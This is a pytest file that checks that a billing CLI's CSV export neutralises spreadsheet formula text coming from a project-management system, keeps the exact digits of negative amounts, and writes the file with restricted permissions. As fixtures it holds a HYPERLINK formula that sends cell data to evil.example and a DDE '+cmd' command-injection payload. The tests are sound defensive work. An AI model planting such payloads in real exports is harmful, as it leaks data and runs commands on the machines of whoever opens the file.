"""`export-drafts` neutralises PM text a spreadsheet would run as a formula (issue 16, found on main).

The drafts are real rows in the entity's real DuckDB file; the CSV is read back as text.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest

from pipelines.cli import main
from resources.warehouse import Warehouse

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def _seed_draft(description: str, contact: str, reference: str) -> None:
    with Warehouse().transaction("us") as con:
        con.execute(
            "INSERT INTO billing.invoice_drafts (invoice_number, entity, period, client_id, contact_name, currency,"
            " invoice_date, due_date, reference, line_count, subtotal, total_tax, total, base_currency,"
            " currency_rate, total_base, content_hash, rule_set_version, run_id) VALUES"
            " ('BB-US-202609-0001', 'us', '2026-09', 5001, ?, 'USD', DATE '2026-09-30', DATE '2026-10-30', ?, 1,"
            " -12.5000, -1.2500, -13.7500, 'USD', 1, -13.7500, 'h', 'v', 'r')",
            [contact, reference],
        )
        con.execute(
            "INSERT INTO billing.invoice_draft_lines (invoice_number, line_no, entity, period, description,"
            " quantity, unit_amount, line_amount, tax_type, tax_amount, account_code, project_id, task_id,"
            " source_kind) VALUES ('BB-US-202609-0001', 1, 'us', '2026-09', ?, 1.0000, -12.5000, -12.5000,"
            " 'OUTPUT', -1.2500, '200', 1, NULL, 'time')",
            [description],
        )


def test_formula_text_from_the_pm_system_arrives_as_text_and_money_keeps_its_digits(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _seed_draft(f"{HOSTILE} - design", "+cmd|'/C calc'!A0", "@SUM(1+1)")
    out = tmp_path / "drafts.csv"
    assert main(["export-drafts", "--entity", "us", "--period", "2026-09", "--out", str(out)]) == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert row["description"] == f"'{HOSTILE} - design"
    assert row["contact_name"] == "'+cmd|'/C calc'!A0"
    assert row["reference"] == "'@SUM(1+1)"
    # Money is written with its exact digits; a negative amount is a number, not neutralised text.
    assert (Decimal(row["line_amount"]), Decimal(row["total"])) == (Decimal("-12.5000"), Decimal("-13.7500"))
    assert row["line_amount"] == "-12.5000"
    assert out.stat().st_mode & 0o777 == 0o600


def test_plain_text_is_left_alone(tmp_path: Path) -> None:
    _seed_draft("Website rebuild - design", "Acme Corp", "ACME-2026-09")
    out = tmp_path / "drafts.csv"
    assert main(["export-drafts", "--entity", "us", "--period", "2026-09", "--out", str(out)]) == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert (row["description"], row["contact_name"]) == ("Website rebuild - design", "Acme Corp")
